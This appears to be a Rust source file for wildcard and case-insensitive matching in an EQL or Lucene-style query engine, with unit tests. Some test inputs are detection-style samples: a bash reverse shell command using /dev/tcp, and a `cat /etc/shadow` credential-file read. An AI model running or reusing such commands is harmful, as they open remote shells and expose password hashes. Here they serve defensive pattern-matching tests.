//! Wildcard patterns (`*` and `?`) and case-insensitive character comparison.
//!
//! This is what `like`, `like~` and `:` compile to, and what Elasticsearch's
//! `wildcard` query does with them: `*` matches any run of characters
//! (including none), `?` exactly one character (a Unicode scalar value), and
//! the pattern must cover the whole value. EQL has no escape character in
//! `like` patterns, so `\` is an ordinary character there; the Lucene form
//! (used where Elasticsearch pushes `stringContains` and `endsWith` down as a
//! raw wildcard query) also honours `\` as an escape, as Lucene does.
//!
//! Case-insensitive comparison follows Lucene's case-insensitive automata:
//! two characters are equal when they are the same or have the same simple
//! lower-case or upper-case mapping. Multi-character mappings (German `ß` to
//! `SS`) are not applied, as in Lucene.
//!
//! Not done yet: nothing known; Lucene's limit on the size of the automaton a
//! pattern may build is not mirrored (patterns here never get too complex).

/// One element of a compiled pattern.
#[derive(Debug, Clone, PartialEq)]
enum Tok {
    /// `*`: any run of characters.
    Star,
    /// `?`: exactly one character.
    One,
    /// A literal character, compared case-insensitively in an insensitive pattern.
    Char(char),
    /// An escaped literal: always compared exactly, as Lucene does.
    Exact(char),
}

/// A compiled wildcard pattern.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Wildcard {
    toks: Vec<Tok>,
    insensitive: bool,
}

impl Wildcard {
    /// An EQL `like` pattern: `*` and `?` are wildcards, nothing is an escape.
    pub(crate) fn eql(pattern: &str, insensitive: bool) -> Self {
        let toks = pattern
            .chars()
            .map(|c| match c {
                '*' => Tok::Star,
                '?' => Tok::One,
                c => Tok::Char(c),
            })
            .collect();
        Self { toks, insensitive }.collapsed()
    }

    /// A raw Lucene wildcard pattern: as [`Wildcard::eql`], and `\` escapes the
    /// next character (a trailing `\` is literal).
    pub(crate) fn lucene(pattern: &str, insensitive: bool) -> Self {
        let mut toks = Vec::new();
        let mut chars = pattern.chars();
        while let Some(c) = chars.next() {
            toks.push(match c {
                '*' => Tok::Star,
                '?' => Tok::One,
                '\\' => match chars.next() {
                    Some(next) => Tok::Exact(next),
                    None => Tok::Char('\\'),
                },
                c => Tok::Char(c),
            });
        }
        Self { toks, insensitive }.collapsed()
    }

    /// Adjacent stars mean the same as one star; keeping one saves backtracking.
    fn collapsed(mut self) -> Self {
        self.toks
            .dedup_by(|a, b| *a == Tok::Star && *b == Tok::Star);
        self
    }

    /// True when the pattern has a `*` or `?`.
    pub(crate) fn has_wildcards(&self) -> bool {
        self.toks.iter().any(|t| matches!(t, Tok::Star | Tok::One))
    }

    /// True when the pattern matches every string (it is only stars).
    pub(crate) fn matches_everything(&self) -> bool {
        !self.toks.is_empty() && self.toks.iter().all(|t| *t == Tok::Star)
    }

    /// True when `text` matches the whole pattern.
    pub(crate) fn is_match(&self, text: &str) -> bool {
        let char_at = |t: usize| text.get(t..).and_then(|rest| rest.chars().next());
        let (mut p, mut t) = (0, 0);
        // Where the last star was, and the byte offset up to which it has
        // swallowed the text so far.
        let mut backtrack: Option<(usize, usize)> = None;
        loop {
            if let Some(tok) = self.toks.get(p) {
                let step = match (tok, char_at(t)) {
                    (Tok::Star, _) => {
                        backtrack = Some((p, t));
                        p += 1;
                        continue;
                    }
                    (Tok::One, Some(c)) => Some(c),
                    (Tok::Char(want), Some(c)) if self.char_eq(*want, c) => Some(c),
                    (Tok::Exact(want), Some(c)) if *want == c => Some(c),
                    _ => None,
                };
                if let Some(c) = step {
                    p += 1;
                    t += c.len_utf8();
                    continue;
                }
            } else if t == text.len() {
                return true;
            }
            match backtrack
                .and_then(|(star, swallowed)| Some((star, swallowed, char_at(swallowed)?)))
            {
                Some((star, swallowed, c)) => {
                    let swallowed = swallowed + c.len_utf8();
                    backtrack = Some((star, swallowed));
                    p = star + 1;
                    t = swallowed;
                }
                None => return false,
            }
        }
    }

    fn char_eq(&self, pattern: char, text: char) -> bool {
        if self.insensitive {
            chars_eq_ignore_case(pattern, text)
        } else {
            pattern == text
        }
    }
}

/// The simple (single-character) lower-case mapping of `c`, or `c`.
pub(crate) fn simple_lower(c: char) -> char {
    let mut it = c.to_lowercase();
    match (it.next(), it.next()) {
        (Some(l), None) => l,
        _ => c,
    }
}

/// The simple (single-character) upper-case mapping of `c`, or `c`.
pub(crate) fn simple_upper(c: char) -> char {
    let mut it = c.to_uppercase();
    match (it.next(), it.next()) {
        (Some(u), None) => u,
        _ => c,
    }
}

/// Case-insensitive equality of two characters.
pub(crate) fn chars_eq_ignore_case(a: char, b: char) -> bool {
    if a.is_ascii() && b.is_ascii() {
        return a.eq_ignore_ascii_case(&b);
    }
    a == b || simple_lower(a) == simple_lower(b) || simple_upper(a) == simple_upper(b)
}

/// Case-insensitive equality of two strings, character by character.
pub(crate) fn eq_ignore_case(a: &str, b: &str) -> bool {
    let (mut x, mut y) = (a.chars(), b.chars());
    loop {
        match (x.next(), y.next()) {
            (None, None) => return true,
            (Some(c), Some(d)) if chars_eq_ignore_case(c, d) => {}
            _ => return false,
        }
    }
}

/// Case-insensitive prefix test, character by character.
pub(crate) fn starts_with_ignore_case(text: &str, prefix: &str) -> bool {
    let mut t = text.chars();
    prefix
        .chars()
        .all(|p| t.next().is_some_and(|c| chars_eq_ignore_case(p, c)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn m(pattern: &str, text: &str) -> bool {
        Wildcard::eql(pattern, false).is_match(text)
    }

    #[test]
    fn star_and_question_mark() {
        assert!(m("doc*", "doc"));
        assert!(m("doc*", "document"));
        assert!(!m("doc*", "DOS"));
        assert!(m("*doc", "asciidoc"));
        assert!(m("d*c", "disc"));
        assert!(m("doc?", "docs"));
        assert!(!m("doc?", "doc"));
        assert!(!m("?doc", "asciidoc"));
        assert!(m("*", ""));
        assert!(m("", ""));
        assert!(!m("", "x"));
        assert!(m("*/dev/tcp/*0>&1*", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1"));
        assert!(m("a*b*c", "aXbYbZc"));
        assert!(!m("a*b*c", "aXbYbZ"));
        assert!(m("**a**", "bab"));
    }

    #[test]
    fn question_mark_is_one_character_not_one_byte() {
        assert!(m("?", "é"));
        assert!(m("caf?", "café"));
        assert!(!m("??", "é"));
    }

    #[test]
    fn backslash_is_literal_in_eql_patterns() {
        assert!(m(r"C:\*", r"C:\Windows"));
        assert!(!m(r"a\*", "a*x"));
        assert!(m(r"a\*", r"a\xyz"));
    }

    #[test]
    fn lucene_patterns_escape() {
        assert!(Wildcard::lucene(r"a\*", false).is_match("a*"));
        assert!(!Wildcard::lucene(r"a\*", false).is_match("ab"));
        assert!(Wildcard::lucene(r"a\", false).is_match(r"a\"));
        // Escaped characters stay case-sensitive, as in Lucene.
        assert!(!Wildcard::lucene(r"\a", true).is_match("A"));
        assert!(Wildcard::lucene("a", true).is_match("A"));
    }

    #[test]
    fn insensitive_patterns() {
        let w = Wildcard::eql("*/ETC/Shadow*", true);
        assert!(w.is_match("cat /etc/shadow"));
        assert!(!Wildcard::eql("*/ETC/Shadow*", false).is_match("cat /etc/shadow"));
        assert!(Wildcard::eql("ÉCOLE", true).is_match("école"));
    }

    #[test]
    fn classification() {
        assert!(Wildcard::eql("a*", false).has_wildcards());
        assert!(!Wildcard::eql("abc", false).has_wildcards());
        assert!(Wildcard::eql("***", false).matches_everything());
        assert!(!Wildcard::eql("*?", false).matches_everything());
        assert!(!Wildcard::eql("", false).matches_everything());
    }

    #[test]
    fn ignore_case_helpers() {
        assert!(eq_ignore_case("DMESG", "dmesg"));
        assert!(!eq_ignore_case("dmesg", "dmesgx"));
        assert!(eq_ignore_case("ſ", "S"));
        assert!(!eq_ignore_case("ß", "SS"));
        assert!(starts_with_ignore_case("/USR/bin", "/usr"));
        assert!(!starts_with_ignore_case("/us", "/usr"));
    }
}
